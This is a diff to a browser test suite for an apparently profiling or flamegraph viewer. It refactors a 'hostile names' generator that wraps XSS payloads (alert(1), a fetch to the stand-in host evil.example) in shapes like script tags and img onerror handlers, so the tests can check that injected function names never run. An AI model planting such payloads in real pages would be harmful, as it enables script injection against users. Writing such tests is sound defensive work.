@@ -15,6 +15,8 @@ const TO = Date.parse("2026-11-25T10:00:00Z");
 const FROM = TO - 3_600_000;
 const RANGE = "from=2026-11-25T09:00:00Z&to=2026-11-25T10:00:00Z&group=-";
 const MACHINE: DevOptions = { seed: 1, stacksPerService: 400 };
+/** What hostile names call. */
+const CALLS = ["alert(1)", "print()", "document.title='x'", "fetch('//evil.example')"];
 
 let browser: Browser;
 const servers: DevServer[] = [];
@@ -320,7 +322,8 @@ describe("hostile names", () => {
         }, top);
       }
     }
-    for (const name of payloads) {
+    // Each shape once: what it would call is nothing to the search.
+    for (const name of payloads.slice(0, payloads.length / CALLS.length)) {
       await page.getByRole("textbox", { name: "Search functions" }).fill(`"${name}"`);
       await page.keyboard.press("Enter");
     }
@@ -379,7 +382,6 @@ function elementNames(page: Page): Promise<string[]> {
 
 /** What people put into names to have it run: 300 of them. */
 function hostileNames(): string[] {
-  const calls = ["alert(1)", "print()", "document.title='x'", "fetch('//evil.example')"];
   const shapes: ((call: string) => string)[] = [
     (call) => `<script>${call}</script>`,
     (call) => `<img src=x onerror=${call}>`,
@@ -412,7 +414,7 @@ function hostileNames(): string[] {
     (text) => `std::vector<${text}>`,
     (text) => `${text}\n${"long ".repeat(50)}`,
   ];
-  return calls.flatMap((call) => shapes.flatMap((shape) => wraps.map((wrap) => wrap(shape(call)))));
+  return CALLS.flatMap((call) => shapes.flatMap((shape) => wraps.map((wrap) => wrap(shape(call)))));
 }
 
 describe("what goes wrong", () => {
